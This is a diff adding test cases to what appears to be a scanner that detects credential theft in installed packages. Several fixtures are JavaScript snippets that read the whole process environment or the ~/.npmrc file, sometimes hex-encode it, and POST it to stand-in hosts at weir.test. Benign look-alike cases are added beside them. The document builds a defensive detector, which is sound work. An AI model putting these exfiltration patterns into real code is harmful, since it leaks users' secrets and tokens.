@@ -37,6 +37,24 @@ export const samples: Samples = {
       expected: [at('environment', 'high', 5, 'index.js')],
     },
     {
+      name: 'what another file gathers, through names, fields, callbacks and a file that encodes',
+      files: installed(
+        `const { read } = require('./env');\nconst { encode } = require('./encode');\nclass Box {\n  constructor(all) { this.all = all; }\n  get text() { return encode({ all: this.all }); }\n}\nconst box = new Box(read());\nfetch('https://a.weir.test/a', { method: 'POST', body: box.text });\nconst parts = [];\n[read()].forEach((part) => parts.push(part));\nfetch('https://a.weir.test/b', { method: 'POST', body: parts.join() });\n`,
+        {
+          'env.js': `exports.version = () => 1;\nexports.read = () => ({ ...process.env });\n`,
+          'encode.js': `exports.encode = (value) => Buffer.from(JSON.stringify(value)).toString('hex');\n`,
+        },
+      ),
+      expected: [at('environment', 'critical', 8), at('environment', 'critical', 11)],
+    },
+    {
+      name: 'the environment as a member of what a function is given, by its key or spread',
+      files: installed(
+        `const send = ({ url, data: { body } }) => fetch(url, { method: 'POST', body: JSON.stringify(body) });\nsend({ url: 'https://a.weir.test/', data: { body: process.env } });\nconst post = ({ where, ...rest }) => fetch(where, { method: 'POST', body: JSON.stringify(rest) });\npost({ where: 'https://a.weir.test/', ...process.env });\n`,
+      ),
+      expected: [at('environment', 'critical', 1), at('environment', 'critical', 3)],
+    },
+    {
       name: 'credentials of the package manager',
       files: installed(
         `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nrequire('axios').post('https://a.weir.test', { rc });\n`,
@@ -299,6 +317,31 @@ export const samples: Samples = {
         {
           'sockets.js': `function post(body) { return fetch('https://api.weir.test/x', { method: 'POST', body }); }\nfunction serialize(value) { return Buffer.from(JSON.stringify(value)); }\nmodule.exports = { post, serialize };\n`,
         },
+      ),
+    ),
+    quiet(
+      'a request by the settings of one file, next to the environment of another one for a child',
+      installed(
+        `const { read } = require('./settings');\nconst { forChild } = require('./env');\nclass Client {\n  constructor(where) { this.where = where; }\n  ping() { return fetch(this.where); }\n}\nconst settings = read();\nnew Client(settings.url).ping();\nfetch('https://api.weir.test/hooks', { method: 'POST', body: settings.name });\nrequire('child_process').spawn('node', ['x.js'], { env: forChild() });\n`,
+        {
+          'settings.js': `exports.read = () => JSON.parse(require('fs').readFileSync('own.json', 'utf8'));\n`,
+          'env.js': `exports.forChild = () => ({ ...process.env, LANG: 'C' });\n`,
+        },
+      ),
+    ),
+    quiet(
+      'one export of a file goes out, and another one is the environment',
+      installed(
+        `const { version, forChild } = require('./own');\nfetch('https://api.weir.test/latest/' + version());\nrequire('child_process').spawn('node', ['x.js'], { env: forChild() });\n`,
+        {
+          'own.js': `exports.version = () => require('./package.json').version;\nexports.forChild = () => ({ ...process.env, LANG: 'C' });\n`,
+        },
+      ),
+    ),
+    quiet(
+      'one member of what a function is given goes out, and another one holds the environment',
+      installed(
+        `const open = ({ slug, settings }) => {\n  fetch('https://api.weir.test/tunnels/' + slug);\n  require('child_process').spawn('node', ['x.js'], settings);\n};\nopen({ slug: String(process.pid), settings: { env: { ...process.env, LANG: 'C' } } });\n`,
       ),
     ),
     quiet(
